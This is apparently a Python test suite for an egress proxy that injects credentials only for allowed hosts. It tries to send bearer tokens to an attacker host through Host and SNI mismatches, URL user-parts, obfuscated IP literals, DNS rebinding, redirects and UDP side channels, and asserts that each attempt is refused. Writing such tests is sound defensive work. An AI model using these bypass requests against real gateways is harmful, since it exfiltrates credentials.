"""Cases 1 to 17: the one canonical destination."""
import bb
from attack import case
import hosts


@case("1", "stub to the attacker's own echo endpoint")
def stub_to_attackers_host(t):
    a, b = t.run("out(ask(E, '/echo', bearer()), "
                 "ask('out.x-corp.test', '/', bearer()))")
    t.one(a, 403, "stub_wrong_host")
    t.one(b, 403, "host_not_allowed")
    t.audit("stub_wrong_host")
    t.audit("host_not_allowed")
    assert not t.seen("E") and not t.seen("denied")


@case("2", "stub of A to another allowed host")
def stub_to_other_allowed_host(t):
    a, ok = t.run("out(ask(B, '/echo', bearer()), ask(B, '/echo'))")
    t.one(a, 403, "stub_wrong_host")
    t.one(ok, 200)
    t.audit("stub_wrong_host")


@case("3", "connection to E with SNI and Host A")
def dial_attacker_name_host(t):
    a, b = t.run(
        "out(ask(A, '/echo', bearer(), dial=E),"
        " attempt(lambda: talk(tcp(E), 'CONNECT %s:443 HTTP/1.1\\r\\nHost: %s"
        "\\r\\n\\r\\n' % (E, E))))")
    assert a.startswith("!"), a
    assert " 405 " in b or b.startswith("!") or " 400 " in b, b
    assert not t.seen("E") and not t.seen("A")


@case("3b", "through the proxy: CONNECT, SNI and Host that disagree")
def proxy_names(t):
    got = t.run("""
mine = text(A, '/echo', bearer())
out(tunnel(A + ':443', A, mine))
for at, sni, host in ((E, A, A), (A, E, E), (B, B, A), (A, A, E), (E, E, E),
                      (A, B, A)):
    out(tunnel(at + ':443', sni, text(host, '/echo', bearer())))
for at in (A + ':443.' + E, E + '\\0.' + A, A + ':443:443', 'x@' + A + ':443',
           A, A + ':0', A + ':+443', '10.0.0.5:443', '93.184.216.66:443',
           '[::1]:443', A + '.:443', 'https://' + A + ':443', '*:443'):
    out(tunnel(at, A, mine))
out(tunnel(A + ':443', None, 'CONNECT %s:443 HTTP/1.1\\r\\nHost: %s\\r\\n%s'
           '\\r\\n\\r\\n' % (E, A, bearer())))
out(tunnel(A + ':443', None, 'SSH-2.0-x\\r\\n'))
out(tunnel('out.x-corp.test:443', 'out.x-corp.test',
           text('out.x-corp.test', '/', bearer())))
""")
    t.one(got[0], 200)
    ok, got = got[0], got[1:]
    for a in got[:2] + got[5:6]:
        assert a.startswith("!"), a
    t.one(got[2], 403, "destination_mismatch")
    t.one(got[3], 403, "destination_mismatch")
    t.one(got[4], 403, "stub_wrong_host")
    for a in got[6:19]:
        assert " 400 " in a[:20] or a[:1] in ("!", ""), a
    for a in got[19:21]:
        assert " 405 " in a[:20] or " 400 " in a[:20] or a[:1] in ("!", ""), a
    t.one(got[21], 403, "host_not_allowed")
    assert len([x for x in t.seen("A") if x["raw"]]) == 1, t.seen("A")
    assert not t.seen("B") and not t.seen("E") and not t.seen("denied")


@case("3c", "through the proxy: absolute form; what is no proxy request")
def proxy_absolute(t):
    got = t.run("""
def plain(line, host, *h):
    return attempt(lambda: talk(tcp(PROXY, 80), '\\r\\n'.join([
        line + ' HTTP/1.1', 'Host: ' + host, 'Connection: close', *h, '',
        ''])))
out(plain(f'GET http://{B}/x', B), plain(f'GET http://{A}/x', A, bearer()),
    plain(f'GET http://{B}/x', A, bearer()),
    plain(f'GET http://{A}/x', B, bearer()),
    plain(f'GET http://{E}@{A}/x', A, bearer()),
    plain(f'GET https://{A}/x', A, bearer()), plain('GET /x', A, bearer()),
    plain('TRACE http://' + A + '/x', A))
out(sh(f'curl -sS -m 15 -x http://{PROXY}:3128 http://{B}/x'),
    sh(f'curl -sS --http2 -m 15 -x http://{PROXY}:3128 -H "{bearer()}"'
       f' https://{A}/x'))
""")
    t.one(got[0], 200)
    t.one(got[1], 403, "clear_text_refused")
    for a in got[2:7]:
        assert " 400 " in a[:20] or a[:1] in ("!", ""), a
    assert " 405 " in got[7][:20], got[7]
    assert "ok /x" in got[8] and "ok /x" in got[9], got[8:]
    assert not t.seen("E") and not t.seen("A:80")


@case("4", "connection to A with SNI E")
def dial_host_name_attacker(t):
    a, = t.run("out(ask(E, '/echo', bearer(), dial=A))")
    assert a.startswith("!"), a
    assert not t.seen("E")


@case("5", "connection to B with inner Host A")
def inner_host_differs(t):
    a, b = t.run("out(ask(A, '/echo', bearer(), dial=B, sni=B),"
                 " ask(E, '/echo', bearer(), dial=A, sni=A))")
    t.one(a, 403, "destination_mismatch")
    t.one(b, 403, "destination_mismatch")
    assert not t.seen("A") and not t.seen("B") and not t.seen("E")


@case("6", "absolute-form authority that differs from the tunnel")
def absolute_form_differs(t):
    got = t.run("""
for authority in (E, A + '.e-corp.test', 'api.a-corp', 'a', A + ':80',
                  A + ':8443', 'x@' + A):
    s = tls(A)
    out(talk(s, f'GET https://{authority}/echo HTTP/1.1\\r\\nHost: {A}\\r\\n'
             f'Connection: close\\r\\n{bearer()}\\r\\n\\r\\n'))
s = tls(A)
out(talk(s, f'GET https://{A}/echo HTTP/1.1\\r\\nHost: {A}\\r\\n'
         f'Connection: close\\r\\n{bearer()}\\r\\n\\r\\n'))
""")
    for a in got[:-1]:
        assert " 403 " in a[:20] or " 400 " in a[:20], a[:300]
    t.one(got[-1], 200)
    assert len(t.seen("A")) == 2, "a request with a wrong authority arrived"


@case("7", "user part in a URL: https://A@E/, https://A%2f@E/")
def user_part_in_url(t):
    got = t.run("""
out(sh(f'curl -sS -m 15 -H "{bearer()}" https://{A}@{E}/echo'))
out(sh(f'curl -sS -m 15 -H "{bearer()}" https://{A}%2f@{E}/echo'))
for h in (A + '@' + E, E + '@' + A, A + '%2f@' + E):
    out(talk(tls(A), text(h, '/echo', bearer())))
""")
    for a in got[:2]:
        assert "stub_wrong_host" in a or "credential_required" in a, a
    for a in got[2:]:
        assert " 403 " in a[:20] or " 400 " in a[:20], a[:300]
    assert not t.seen("A") and not t.seen("E")


@case("8", "names that hold A: A.E, evilA, E\\0.A, A:443.E")
def names_that_hold_the_host(t):
    got = t.run("""
for h in (A + '.e-corp.test', 'evil' + A, 'deep.' + A):
    out(ask(h, '/echo', bearer()))
for h in (A + ':443.e-corp.test', E + '\\0.' + A, A + '.', A + ':443:443',
          A + ':', A + ' ', '*.' + A, A + ', ' + E):
    out(talk(tls(A), text(h, '/echo', bearer())))
out(attempt(lambda: talk(tls(A, A + '.'), text(A + '.', '/echo', bearer()))))
out(attempt(lambda: tls(A, 'x' * 70 + '.' + A) and 'handshake'))
""")
    for a in got[:2]:
        assert " 403 " in a[:20], a[:300]
    for a in got[2:]:
        assert a[:1] == "!" or a == "" or " 40" in a[:20] or \
            (" 200 " in a[:20] and t.seen("A")), a[:300]
    assert not t.seen("E") and not t.seen("denied")


@case("9", "*.wild: not the apex, not deeper; public suffixes refused")
def wildcard_depth(t):
    got = t.run("out(ask('one.wild-corp.test', '/echo', bearer()),"
                " ask('two.one.wild-corp.test', '/echo', bearer()),"
                " ask('wild-corp.test', '/echo', bearer()))")
    t.one(got[0], 200)
    for a in got[1:]:
        assert " 403 " in a[:20], a[:300]
    wild = [x for x in t.seen("wild") if x["raw"]]
    assert len(wild) == 1
    assert not t.seen("E")
    # This host is bound, too: its answers and its listener are A's like.
    t.own("wild")
    for host in ("*.com", "*.co.uk", "*.github.io", "*"):
        v = t.api.call("POST", "/v1/vaults", {"display_name": "x"})["id"]
        e = t.api.refused(400, "POST", f"/v1/vaults/{v}/credentials", {
            "auth": {"type": "environment_variable", "secret_name": "X",
                     "secret_value": "x" * 20, "networking": {
                         "type": "limited", "allowed_hosts": [host]}}})
        assert host[1:] in e["message"] or "host" in e["message"], e


@case("10", "A on another port, port 0, +443")
def other_ports(t):
    got = t.run("""
out(ask(A, '/echo', bearer(), port=8443), ask(A, '/echo', bearer(),
    port=4443))
for h in (A + ':0', A + ':+443', A + ':0443', A + ':8443', A + ':65979',
          A + ':443443', A + ':-1'):
    out(talk(tls(A), text(h, '/echo', bearer())))
out(attempt(lambda: talk(tcp(A, 0), 'x')))
""")
    t.one(got[0], 403, "stub_wrong_host")
    t.one(got[1], 403, "host_not_allowed")
    for a in got[2:-1]:
        assert " 403 " in a[:20] or " 400 " in a[:20], a[:300]
    assert got[-1].startswith("!") or " 400 " in got[-1][:20], got[-1]
    assert not [x for x in t.seen() if x["at"].startswith("A")]


@case("11", "http://A: never a swap over clear text")
def clear_text(t):
    got = t.run("""
for port in (80, 443):
    out(attempt(lambda: talk(tcp(A, port), text(A, '/echo', bearer()))))
out(attempt(lambda: talk(tcp(A, 80), text(A, '/echo', basic('x:' + S)))))
out(attempt(lambda: talk(tcp(B, 80), text(A, '/echo', bearer()))))
out(sh(f'curl -sS -m 15 -x http://{B}:80 -H "{bearer()}" http://{A}/echo'))
""")
    for a in got[:3]:
        t.one(a, 403, "clear_text_refused")
    # The name that was looked up is not the Host.
    assert got[3].startswith("!") and "curl: (" in got[4], got[3:]
    t.audit("clear_text_refused")
    assert not [x for x in t.seen() if x["at"] in ("A", "A:80", "B:80")]


@case("12", "redirect to E: no second swap, Location scrubbed")
def redirect(t):
    a, b = t.run("out(ask(A, '/redirect', bearer()),"
                 " sh(f'curl -sSL -m 15 --location-trusted -H \"{bearer()}\""
                 " https://{A}/redirect'))")
    t.one(a, 302)
    assert "Location: https://in.e-corp.test/?t=" in a and "****" in a, a
    assert "stub_wrong_host" in b, b
    assert not t.seen("E")


@case("13", "addresses as hosts: octal, hex, decimal, mapped, zone id")
def address_literals(t):
    got = t.run("""
for h in ('10.0.0.5', '93.184.216.66', '012.0.0.5', '0xa.0.0.5', '167772165',
          '0x0a000005', '10.5', '[::ffff:10.0.0.5]', '[fe80::5%25lo]',
          '[::1]', '127.1', '93.184.216.66.', '0'):
    out(attempt(lambda: talk(tcp(B, 80), text(h, '/echo', bearer()))))
    out(sh(f"curl -gsS -m 10 -H '{bearer()}' 'https://{h}/echo'"))
""")
    for a in got:
        assert a.startswith("!") or "curl: (" in a or "\"error\"" in a, \
            a[:300]
    assert not [x for x in t.seen() if x["at"] != "dns"], t.seen()


@case("14", "DNS rebinding: the vetted address is the dialled one")
def rebinding(t):
    got = t.run("""
for i in range(8):
    out(ask('rebind.addr.test', '/echo', bearer())[:40])
""")
    t.own("rebind")
    for a in got:
        assert " 200 " in a or " 502 " in a, a
    assert not [x for x in t.seen() if x["at"].startswith("special")]


@case("15", "names that lead to special addresses, or to this host")
def special_addresses(t):
    names = sorted(hosts.SPECIAL)
    got = t.run("for h in %r:\n    out(ask(h, '/echo', bearer()))" % names)
    wrong = {n: a[:200] for n, a in zip(names, got)
             if "address_refused" not in a}
    assert not wrong, wrong
    t.audit("allowed")
    bad = [x for x in t.seen() if x["at"] not in ("dns",)]
    assert not bad, bad


@case("16", "certificate expired, of another host, self-signed, TLS 1.0")
def bad_certificates(t):
    names = sorted(hosts.BAD_TLS)
    got = t.run("for h in %r:\n    out(ask(h, '/echo', bearer()))" % names)
    for n, a in zip(names, got):
        assert "upstream_failed" in a and " 502 " in a[:20], (n, a[:300])
    for x in t.seen():
        assert x["at"] not in names or x["raw"] == "", x


@case("17", "Alt-Svc, HTTPS records, UDP 443: no way around")
def no_way_around(t):
    a, records, udp = t.run("""
import random
out(ask(A, '/altsvc', bearer()))
def question(kind):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    q = b'\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0' + b''.join(
        bytes((len(x),)) + x.encode() for x in A.split('.')) + b'\\0' \\
        + struct.pack('>HH', kind, 1)
    s.sendto(q, ('127.0.0.1', 53))
    return s.recv(512)[6:8].hex()
out([attempt(question, k) for k in (65, 64, 28, 16, 255)])
def udp(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    s.connect((socket.gethostbyname(host), port))
    s.send(b'x' * 1200)
    return repr(s.recv(100))
out([attempt(udp, E, 443), attempt(udp, E, 53)])
""")
    t.one(a, 200)
    assert all(r in ("0000", "!TimeoutError", "!timeout") for r in records), \
        records
    assert all(u.startswith("!") for u in udp), udp
    assert not t.seen("E")


@case("8b", "what the bridge resets has its row")
def bridge_rows(t):
    t.run("""
attempt(lambda: tls(A, 'somebody-else.test'))
attempt(lambda: talk(tcp(A, 80), 'GET / HTTP/1.1\\r\\nHost: ' + E + '\\r\\n\\r\\n'))
attempt(lambda: talk(tcp(E, 22), 'SSH-2.0-x\\r\\n'))
attempt(lambda: talk(tcp(PROXY, 3128), 'EHLO x\\r\\n\\r\\n'))
attempt(lambda: tcp('198.19.200.1', 443).recv(1))
for i in range(300):
    attempt(lambda: talk(tcp(E, 22), 'SSH-2.0-x\\r\\n'))
time.sleep(1.1)
attempt(lambda: talk(tcp(E, 22), 'SSH-2.0-x\\r\\n'))
""")

    def rows():
        data = t.api.call("GET", "/platform/v1/audit?session_id="
                          f"{t.sessions[-1]}&limit=100&action=egress.refused")
        return [(x["object"], x["detail"]) for x in data["data"]]

    def count():
        return sum(d["count"] for o, d in rows()
                   if d["reason"] == "protocol_unknown")
    bb.wait_for("counts", lambda: count() >= 302)
    got = {(d["reason"], o) for o, d in rows()}
    assert got == {("destination_mismatch", f"tcp://{hosts.A}:443"),
                   ("destination_mismatch", f"tcp://{hosts.A}:80"),
                   ("protocol_unknown", f"tcp://{hosts.E}:22"),
                   ("proxy_malformed", "tcp://unknown.invalid:3128"),
                   ("address_unknown", "tcp://unknown.invalid:443")}, got
    assert count() == 302 and len(rows()) < 40, (count(), len(rows()))
    assert not t.seen("E") and not t.seen("A")
